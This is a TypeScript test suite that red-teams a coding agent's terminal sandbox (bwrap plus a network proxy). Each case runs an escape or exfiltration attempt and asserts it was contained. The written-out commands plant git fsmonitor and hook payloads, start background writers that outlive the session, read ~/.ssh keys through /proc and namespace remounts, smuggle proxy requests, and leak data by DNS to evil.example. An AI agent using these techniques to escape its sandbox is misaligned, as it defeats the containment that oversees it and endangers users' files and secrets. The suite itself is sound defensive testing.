/**
 * Red team, second round: techniques the first corpus and the sandbox tests did not try, run
 * through the real terminal tool in the real bwrap sandbox. Each case is an attack and the one
 * observation that says whether it got through (run outside the sandbox afterwards: real git,
 * real listeners, the real file system). A case passes when the attack was contained.
 */
import { execFileSync, spawnSync } from "node:child_process";
import dns from "node:dns";
import { existsSync, lstatSync, mkdirSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { createServer, type Server, type Socket } from "node:net";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import type { ToolContext } from "../../src/registry/index.js";
import { setSandboxConfig } from "../../src/sandbox/config.js";
import { hostAllowed } from "../../src/sandbox/proxy.js";
import { assertBuilt, cliEnv } from "../helpers/cli.js";
import { sandboxWorld, terminal, type SandboxWorld } from "../sandbox/harness.js";

let world: SandboxWorld;
beforeEach(() => {
  world = sandboxWorld();
});
afterEach(() => world.cleanup());

const ctx: ToolContext = { approve: async () => "once" };
const run = (command: string, workdir = world.project) => terminal({ command, workdir }, ctx);
const marker = (name: string): string => join(world.root, `PWNED-${name}`);

/** What a user does later, outside the sandbox: git status and a commit in `dir`. */
function gitOutside(dir: string): void {
  const env = { PATH: process.env.PATH ?? "/usr/bin:/bin", HOME: world.home, GIT_CONFIG_NOSYSTEM: "1" };
  for (const args of [["status"], ["-c", "user.name=u", "-c", "user.email=u@x", "commit", "-q", "--allow-empty", "-m", "x"]]) {
    try {
      execFileSync("git", args, { cwd: dir, env, stdio: "ignore", timeout: 10_000 });
    } catch {
      // a broken repository is a contained attack; only the marker counts
    }
  }
}

/** A git dir's worth of files at `dir` (in the sandbox's shell), whose config and hook touch `mark`. */
const evilGitDir = (dir: string, mark: string): string =>
  [
    `mkdir -p ${dir}/hooks ${dir}/objects ${dir}/refs/heads`,
    `echo 'ref: refs/heads/main' > ${dir}/HEAD`,
    `printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = touch ${mark}\\n' > ${dir}/config`,
    `printf '#!/bin/sh\\ntouch ${mark}\\n' > ${dir}/hooks/pre-commit && chmod +x ${dir}/hooks/pre-commit`,
  ].join(" && ");

describe("redteam2: git tricks", () => {
  it(".git/commondir pointing at a git dir the command wrote (its config and hooks)", async () => {
    const mark = marker("commondir");
    await run(`${evilGitDir("evilcommon", mark)}; echo "$PWD/evilcommon" > .git/commondir`);
    gitOutside(world.project);
    expect(existsSync(mark)).toBe(false);
  });

  it("a .git file in a project that had no repository, pointing at a git dir the command wrote", async () => {
    rmSync(join(world.project, ".git"), { recursive: true });
    const mark = marker("gitfile");
    await run(`${evilGitDir("evilgit", mark)}; echo "gitdir: $PWD/evilgit" > .git`);
    gitOutside(world.project);
    expect(existsSync(mark)).toBe(false);
  });

  it("a .git symlink in a project that had no repository", async () => {
    rmSync(join(world.project, ".git"), { recursive: true });
    const mark = marker("gitlink");
    await run(`${evilGitDir("evilgit", mark)}; ln -s evilgit .git`);
    gitOutside(world.project);
    expect(existsSync(mark)).toBe(false);
  });

  it("core.fsmonitor through git config --worktree, and a filter driver through .git/info/attributes", async () => {
    const mark = marker("worktree-config");
    await run(`git config extensions.worktreeConfig true; git config --worktree core.fsmonitor 'touch ${mark}'; echo '* filter=x' > .git/info/attributes; git config filter.x.clean 'touch ${mark}'; echo a > a.txt`);
    gitOutside(world.project);
    expect(existsSync(mark)).toBe(false);
  });

  it("includeIf in .git/config to a file the command wrote", async () => {
    const mark = marker("include");
    await run(`printf '[core]\\n\\tfsmonitor = touch ${mark}\\n' > inc.cfg; git config includeIf.gitdir:/.path "$PWD/inc.cfg"; printf '[include]\\n\\tpath = %s\\n' "$PWD/inc.cfg" >> .git/config`);
    gitOutside(world.project);
    expect(existsSync(mark)).toBe(false);
  });
});

describe("redteam2: a linked worktree as the project", () => {
  let tree: string;
  beforeEach(() => {
    const git = (...args: string[]) => execFileSync("git", ["-c", "user.name=u", "-c", "user.email=u@x", ...args], { cwd: world.project, stdio: "ignore" });
    git("commit", "-q", "--allow-empty", "-m", "first");
    tree = join(world.root, "tree");
    git("worktree", "add", "-q", tree);
    setSandboxConfig({ config: {}, project: tree, passthrough: [] });
  });

  it("rewriting the worktree's .git file, or its commondir, to a git dir the command wrote", async () => {
    const mark = marker("worktree");
    const gitDir = join(world.project, ".git", "worktrees", "tree");
    await run(`${evilGitDir("evil", mark)}; echo "gitdir: $PWD/evil" > .git; echo "$PWD/evil" > ${gitDir}/commondir`, tree);
    gitOutside(tree);
    expect(existsSync(mark)).toBe(false);
  });
});

describe("redteam2: escaping the quarantine check", () => {
  it("a hard link, a renamed directory, a symlink elsewhere and a FIFO at protected paths", async () => {
    await run(`echo evil > e && ln e .envrc; mkdir v && echo '{}' > v/tasks.json && mv v .vscode; mkdir -p .idea && ln -s ${world.home}/.bashrc .idea/workspace.xml; mkfifo .quiver`);
    const left = [".envrc", ".vscode/tasks.json", ".idea/workspace.xml", ".quiver"].filter((p) => existsSync(join(world.project, p)) || isLink(join(world.project, p)));
    expect(left).toEqual([]);
  });

  it("background writers that outlive the shell: setsid, nohup, a double fork", async () => {
    await run("setsid -f sh -c 'sleep 1; echo a > .envrc' >/dev/null 2>&1; nohup sh -c 'sleep 1; mkdir -p .vscode; echo b > .vscode/tasks.json' >/dev/null 2>&1 & (sh -c 'sleep 1; echo c > .git/hooks/pre-push' >/dev/null 2>&1 &) ; echo started");
    await new Promise((resolve) => setTimeout(resolve, 2_500));
    expect([".envrc", ".vscode/tasks.json", ".git/hooks/pre-push"].filter((p) => existsSync(join(world.project, p)))).toEqual([]);
  });
});

describe("redteam2: /proc, /dev and other namespaces", () => {
  it("writes through /proc/self/root and /proc/1/root land nowhere outside", async () => {
    await run(`echo x > /proc/self/root${world.home}/via-self; echo x > /proc/1/root${world.home}/via-init; echo x > /proc/$$/cwd/../via-cwd`);
    expect(["home/via-self", "home/via-init", "via-cwd"].filter((p) => existsSync(join(world.root, p)))).toEqual([]);
  });

  it("sees no process outside the sandbox through /proc/<pid>", async () => {
    const r = await run("for p in /proc/[0-9]*; do tr '\\0' ' ' < $p/cmdline; echo; done");
    expect(r.output).not.toMatch(/vitest|node /);
  });

  it("does not share the host's /dev/shm", async () => {
    const host = `/dev/shm/quiver-rt2-${process.pid}`;
    writeFileSync(host, "host\n");
    try {
      const r = await run(`ls /dev/shm; echo in > /dev/shm/quiver-rt2-in-${process.pid}`);
      expect(r.output).not.toContain(`quiver-rt2-${process.pid}`);
      expect(existsSync(`/dev/shm/quiver-rt2-in-${process.pid}`)).toBe(false);
    } finally {
      rmSync(host, { force: true });
      rmSync(`/dev/shm/quiver-rt2-in-${process.pid}`, { force: true });
    }
  });

  it("cannot reach an abstract unix socket of the host", async () => {
    const name = `quiver-rt2-${process.pid}`;
    let got = 0;
    const server = createServer((s) => (got++, s.end()));
    await new Promise<void>((resolve) => server.listen(`\0${name}`, resolve));
    try {
      await run(`socat -T2 - ABSTRACT-CONNECT:${name} </dev/null; echo rc=$?`);
      expect(got).toBe(0);
    } finally {
      server.close();
    }
  });

  it("has no controlling terminal for TIOCSTI and nothing with capabilities to ptrace", async () => {
    const r = await run(`perl -e 'open(T, "+<", "/dev/tty") or die "tty: $!\\n"; print "TTY-OPEN\\n"'; grep -h CapEff /proc/[0-9]*/status | sort -u`);
    expect(r.output).not.toContain("TTY-OPEN");
    expect(r.output).toMatch(/^CapEff:\s+0+$/m);
    expect(r.output).not.toMatch(/CapEff:\s+0*[1-9a-f]/);
  });

  it("leaks no quiver environment through /proc/1/environ or /proc/1/cmdline", async () => {
    process.env.QUIVER_RT2_SECRET = "rt2-canary-secret";
    try {
      const r = await run("tr '\\0' '\\n' < /proc/1/environ; tr '\\0' ' ' < /proc/1/cmdline");
      expect(r.output).not.toContain("rt2-canary-secret");
    } finally {
      delete process.env.QUIVER_RT2_SECRET;
    }
  });
});

describe("redteam2: the network proxy", () => {
  let server: Server;
  let port: number;
  let connections: number;
  let received: string;
  beforeEach(async () => {
    connections = 0;
    received = "";
    server = createServer((s: Socket) => {
      connections++;
      s.on("data", (d) => (received += d.toString("latin1")));
      s.on("error", () => undefined);
      setTimeout(() => s.end("HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nok\n"), 50);
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    port = (server.address() as { port: number }).port;
  });
  afterEach(() => new Promise<void>((resolve) => server.close(() => resolve())));

  const raw = (bytes: string) => run(`printf '${bytes}' | socat -t2 -T3 - TCP:127.0.0.1:3128; echo`);

  it("a NUL byte in a CONNECT host that ends in an allowed suffix", async () => {
    world.configure({ network: { allow: [`*.example.com:${port}`] } });
    const r = await raw(`CONNECT 127.0.0.1\\000.example.com:${port} HTTP/1.1\\r\\n\\r\\n`);
    expect(r.output).not.toContain("200 Connection Established");
    expect(connections).toBe(0);
  });

  it("a NUL byte in an allowed suffix, absolute-form", async () => {
    world.configure({ network: { allow: [`*.example.com:${port}`] } });
    await raw(`GET http://127.0.0.1%00.example.com:${port}/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n`);
    expect(connections).toBe(0);
  });

  it("userinfo, IPv6-mapped, localhost and port tricks against a 127.0.0.1 that is not allowed", async () => {
    world.configure({ network: { allow: [`allowed.example.com:${port}`] } });
    await run(
      [
        `curl -sS -m 3 'http://allowed.example.com:${port}@127.0.0.1:${port}/'`,
        `curl -sS -m 3 'http://[::ffff:127.0.0.1]:${port}/'`,
        `curl -sS -m 3 'http://localhost:${port}/'`,
        `curl -sS -m 3 'http://2130706433:${port}/'`,
        `curl -sS -m 3 'http://0x7f.1:${port}/'`,
      ].join("; "),
    );
    await raw(`CONNECT 127.0.0.1:0${port} HTTP/1.1\\r\\n\\r\\n`);
    await raw(`GET / HTTP/1.1\\r\\nHost: allowed.example.com:${port}\\r\\n\\r\\n`);
    expect(connections).toBe(0);
  });

  it("a second request smuggled after an allowed one goes to the allowed host only", async () => {
    const other = createServer((s) => s.end());
    let otherGot = 0;
    other.on("connection", () => otherGot++);
    await new Promise<void>((resolve) => other.listen(0, "127.0.0.1", resolve));
    const otherPort = (other.address() as { port: number }).port;
    try {
      world.configure({ network: { allow: [`127.0.0.1:${port}`] } });
      await raw(`GET http://127.0.0.1:${port}/ HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\nContent-Length: 0\\r\\n\\r\\nGET http://127.0.0.1:${otherPort}/ HTTP/1.1\\r\\nHost: 127.0.0.1:${otherPort}\\r\\n\\r\\n`);
      expect(otherGot).toBe(0);
    } finally {
      other.close();
    }
  });

  it("never resolves a refused name (no DNS exfiltration through the proxy), and the sandbox resolves nothing itself", async () => {
    const looked: string[] = [];
    const original = dns.lookup;
    // net.connect resolves through dns.lookup: record every name the proxy asks for.
    (dns as { lookup: unknown }).lookup = (...args: unknown[]) => (looked.push(String(args[0])), (original as (...a: unknown[]) => unknown)(...args));
    try {
      const r = await run("curl -sS -m 3 https://c2VjcmV0.evil.example/ -o /dev/null; curl -sS -m 3 http://c2VjcmV0.evil.example/; getent hosts c2VjcmV0.evil.example; getent hosts localhost.localdomain.evil.example; echo done");
      expect(looked.filter((h) => h.includes("c2VjcmV0"))).toEqual([]);
      expect(r.output).not.toMatch(/^\d+\.\d+\.\d+\.\d+\s+\S*evil/m);
    } finally {
      (dns as { lookup: unknown }).lookup = original;
    }
  });

  it("a wildcard entry does not match a look-alike suffix", () => {
    expect(hostAllowed("evilexample.com", 443, ["*.example.com"])).toBe(false);
    expect(hostAllowed("example.com.evil.com", 443, ["*.example.com"])).toBe(false);
    expect(hostAllowed("x.example.com\0", 443, ["*.example.com"])).toBe(false);
    expect(hostAllowed("evil.com\0.example.com", 443, ["*.example.com"])).toBe(false);
  });
});

describe("redteam2: sandbox.writable and workdir edges", () => {
  it("a writable entry that is a symlink to the home does not make the home writable", async () => {
    const link = join(world.root, "looks-harmless");
    symlinkSync(world.home, link);
    world.configure({ writable: [link] });
    await run("mkdir -p ~/.config/autostart && echo x > ~/.config/autostart/e.desktop; echo 'x' > ~/.npmrc");
    expect([".config/autostart/e.desktop", ".npmrc"].filter((p) => existsSync(join(world.home, p)))).toEqual([]);
  });

  it("a writable entry that is a symlink to / does not make the system writable", async () => {
    const link = join(world.project, "..", "rootlink");
    symlinkSync("/", link);
    world.configure({ writable: [link] });
    await run(`echo x > ${world.root}/beside-root.txt`);
    expect(existsSync(join(world.root, "beside-root.txt"))).toBe(false);
  });

  it("a workdir outside the project is read-only", async () => {
    await run("echo x > from-home.txt", world.home);
    expect(existsSync(join(world.home, "from-home.txt"))).toBe(false);
  });
});

describe("redteam2: quiver's own files in a subdirectory", () => {
  it("a .quiver/tools the command wrote in a subdirectory is not what quiver started there loads", () => {
    assertBuilt();
    const sub = join(world.project, "sub");
    mkdirSync(sub);
    const mark = marker("subdir-tools");
    const env = cliEnv({ HOME: world.home, QUIVER_HOME: world.quiverHome });
    const cli = join(import.meta.dirname, "../../dist/cli/main.js");
    const tool = [
      'import { writeFileSync } from "node:fs";',
      'import { registry } from "quiver";',
      `writeFileSync(${JSON.stringify(mark)}, "ran");`,
      'registry.register({ name: "evil_tool", toolset: "user", schema: { name: "evil_tool" }, handler: () => "" });',
    ].join("\n");
    const write = `mkdir -p .quiver/tools && echo ${Buffer.from(tool).toString("base64")} | base64 -d > .quiver/tools/evil.mjs; echo end`;
    const out = spawnSync(process.execPath, [cli, "tools", "call", "terminal", JSON.stringify({ command: write }), "--no-mcp", "--yes"], { cwd: sub, env, encoding: "utf8" });
    expect(out.stdout, out.stdout + out.stderr).toContain("end");
    spawnSync(process.execPath, [cli, "tools", "--project-tools", "--no-mcp", "list"], { cwd: sub, env, encoding: "utf8" });
    expect(existsSync(mark)).toBe(false);
  });
});

describe("redteam2: quiver's own data", () => {
  it("the spillover exception opens nothing else of $QUIVER_HOME: no .. out of it, no sessions, no config", async () => {
    mkdirSync(join(world.quiverHome, "sessions"), { recursive: true });
    writeFileSync(join(world.quiverHome, "sessions", "s.jsonl"), "rt2-transcript-canary\n");
    const spill = join(world.quiverHome, "cache", "spillover");
    const r = await run(`cat ${spill}/../../sessions/s.jsonl ${spill}/../../config.yaml; ls -RA ${world.quiverHome}; echo x > ${spill}/planted; ln -s ../../sessions ${spill}/s`);
    expect(r.output).not.toContain("rt2-transcript-canary");
    expect(r.output).not.toContain("model: fake");
    expect(existsSync(join(spill, "planted")) || isLink(join(spill, "s"))).toBe(false);
  });
});

describe("redteam2: as an unprivileged user (setpriv)", () => {
  const cli = join(import.meta.dirname, "../../dist/cli/main.js");
  const asNobody = (command: string): string => {
    execFileSync("chown", ["-R", "65534:65534", world.root]);
    const env = cliEnv({ HOME: world.home, QUIVER_HOME: world.quiverHome });
    const r = spawnSync("setpriv", ["--reuid=65534", "--regid=65534", "--clear-groups", process.execPath, cli, "tools", "call", "terminal", JSON.stringify({ command }), "--no-mcp", "--yes"], {
      cwd: world.project,
      env,
      encoding: "utf8",
    });
    // Back to root, or git (run as root afterwards) would refuse the repository as of dubious ownership.
    execFileSync("chown", ["-R", "0:0", world.root]);
    return `${r.stdout}${r.stderr}`;
  };

  it("cannot redirect .git/commondir, or write the home or read ~/.ssh through /proc/self/root", () => {
    assertBuilt();
    const mark = marker("nobody-commondir");
    const out = asNobody(`${evilGitDir("evilcommon", mark)}; echo "$PWD/evilcommon" > .git/commondir; echo x > /proc/self/root${world.home}/via-self; echo 'cat /proc/self/root"$1"/.ssh/id_rsa' > r.sh; sh r.sh ${world.home}; id -u; echo end`);
    expect(out, out).toMatch(/65534\\nend/);
    expect(out).not.toContain("FAKE KEY");
    gitOutside(world.project);
    expect(existsSync(mark)).toBe(false);
    expect(existsSync(join(world.home, "via-self"))).toBe(false);
  });

  it("a nested user namespace (full capabilities in it) cannot unhide ~/.ssh or remount the home writable", () => {
    assertBuilt();
    const inner = `grep CapEff /proc/self/status; mkdir -p /tmp/m; mount --bind ${world.home} /tmp/m; mount --rbind ${world.home} /tmp/m; cat /tmp/m/.ssh/id_rsa; umount -l ${world.home}/.ssh; cat ${world.home}/.ssh/id_rsa; mount -o remount,bind,rw ${world.home}; touch ${world.home}/pwn`;
    const out = asNobody(`echo '${inner}' > n.sh; unshare -Urm sh n.sh; id -u; echo end`);
    expect(out, out).toMatch(/65534\\nend/);
    expect(out).not.toContain("FAKE KEY");
    expect(existsSync(join(world.home, "pwn"))).toBe(false);
  });

  it("cannot plant a .git file in a project without a repository", () => {
    assertBuilt();
    rmSync(join(world.project, ".git"), { recursive: true });
    const mark = marker("nobody-gitfile");
    const out = asNobody(`${evilGitDir("evilgit", mark)}; echo "gitdir: $PWD/evilgit" > .git; id -u; echo end`);
    expect(out, out).toMatch(/65534\\nend/);
    gitOutside(world.project);
    expect(existsSync(mark)).toBe(false);
  });
});

/** Anything at all at `path`: a dangling symlink or a FIFO counts (existsSync misses the first). */
function isLink(path: string): boolean {
  return lstatSync(path, { throwIfNoEntry: false }) !== undefined;
}
